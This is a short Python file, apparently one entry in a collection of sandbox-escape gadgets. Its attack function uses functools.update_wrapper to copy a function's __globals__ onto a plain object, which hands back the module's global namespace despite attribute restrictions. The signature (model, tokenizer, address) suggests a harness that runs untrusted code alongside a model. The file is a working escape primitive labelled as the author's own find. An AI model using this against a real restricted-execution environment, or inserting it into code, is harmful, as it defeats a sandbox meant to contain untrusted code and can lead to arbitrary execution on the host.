"""Class: module gadget. Source: own find. Escape: update_wrapper copies any attribute of any object
to another."""

import functools


class A:
    pass


def helper():
    pass


def attack(model, tokenizer, address):
    a = A()
    functools.update_wrapper(a, helper, assigned=("__globals__",), updated=())
    return vars(a)["__globals__"]
